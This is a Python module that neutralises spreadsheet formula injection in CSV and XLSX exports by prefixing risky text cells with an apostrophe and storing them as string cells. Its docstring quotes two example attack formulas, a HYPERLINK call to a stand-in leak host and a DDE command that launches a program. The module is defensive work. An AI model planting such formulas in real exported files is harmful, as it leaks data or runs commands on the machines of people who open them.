"""Cells that a spreadsheet program can never run: every CSV and XLSX fgkit writes goes through here.

Speech, memos and code labels are text from outside. A cell whose text begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a
formula (``=HYPERLINK("http://x.example/leak", "click")`` sends data away; ``=cmd|' /C calc'!A0``
asks to start a program). Following OWASP's CSV injection guidance, such a text gets a leading
apostrophe, which every spreadsheet program shows as text and never evaluates. Numbers stay
numbers: only text is touched. In XLSX the cell is also stored as a string cell, never a
formula, and keeps the apostrophe, so a workbook saved again as CSV stays inert.

The escape is exact both ways (``restore(neutralise(text)) == text`` for any text), so a review
worksheet reads back what was exported: a text that itself begins with an apostrophe followed
by a formula start or another apostrophe gets one more apostrophe, and ``restore`` takes off
exactly one.

Beyond OWASP's six characters, a line feed and the full-width forms (``＝ ＋ － ＠``, which some
spreadsheet programs accept as formula starts under East Asian input settings) are escaped, and
so is a formula start after leading spaces (Google Sheets trims spaces when it imports a CSV).
"""

from __future__ import annotations

from collections.abc import Iterable
from pathlib import Path

__all__ = [
    "FORMULA_STARTS",
    "is_formula_text",
    "neutralise",
    "restore",
    "safe_frame",
    "write_csv",
    "set_text_cell",
    "append_row",
]

FORMULA_STARTS = frozenset("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
_LEADING_SPACE = " \u00a0\u3000"
_QUOTE = "'"


def is_formula_text(text: str) -> bool:
    """Whether a spreadsheet program could take this text for a formula."""
    stripped = text.lstrip(_LEADING_SPACE)
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def _needs_quote(text: str) -> bool:
    if is_formula_text(text):
        return True
    # An apostrophe already in front of a formula start (or another apostrophe) would be taken
    # off by restore(); one more keeps the round trip exact.
    rest = text[1:]
    return text.startswith(_QUOTE) and (rest.startswith(_QUOTE) or is_formula_text(rest))


def neutralise(value):
    """The value made inert for a spreadsheet cell: text that could be a formula gets a leading
    apostrophe; numbers, dates, None and other non-text values come back unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return _QUOTE + value
    return value


def restore(text: str) -> str:
    """The text as it was before ``neutralise`` (a cell read back from a worksheet)."""
    if text.startswith(_QUOTE) and _needs_quote(text[1:]):
        return text[1:]
    return text


def safe_frame(frame):
    """A copy of a pandas DataFrame whose text cells and column names are neutralised.

    Numeric, boolean and date columns are left as they are, so a negative score stays a number."""
    import pandas as pd

    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out[name] = column.map(neutralise, na_action="ignore")
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(frame, path: Path | str, **options) -> None:
    """``frame.to_csv`` with every text cell and header neutralised (index off unless asked)."""
    options.setdefault("index", False)
    safe_frame(frame).to_csv(path, **options)


def set_text_cell(ws, row: int, column: int, value):
    """Put ``value`` into a worksheet cell: text is neutralised and stored as text, never as a
    formula (openpyxl turns any string starting with "=" into a formula cell by itself)."""
    from openpyxl.cell.rich_text import CellRichText

    if isinstance(value, CellRichText):
        cell = ws.cell(row=row, column=column, value=_safe_rich_text(value))
        cell.data_type = "s"
        return cell
    value = neutralise(value)
    cell = ws.cell(row=row, column=column, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def _safe_rich_text(value):
    """Rich text whose joined text is neutralised: the apostrophe goes into the first run."""
    from openpyxl.cell.rich_text import CellRichText, TextBlock

    text = str(value)
    if not _needs_quote(text) or not value:
        return value
    first, rest = value[0], list(value[1:])
    if isinstance(first, TextBlock):
        first = TextBlock(first.font, _QUOTE + first.text)
    else:
        first = _QUOTE + first
    return CellRichText([first, *rest])


def append_row(ws, values: Iterable) -> list:
    """``ws.append`` for untrusted values: each cell neutralised and text kept as text."""
    values = [neutralise(v) for v in values]
    ws.append(values)
    row = ws.max_row
    cells = [ws.cell(row=row, column=column) for column in range(1, len(values) + 1)]
    for cell, value in zip(cells, values):
        if isinstance(value, str):
            cell.data_type = "s"
    return cells
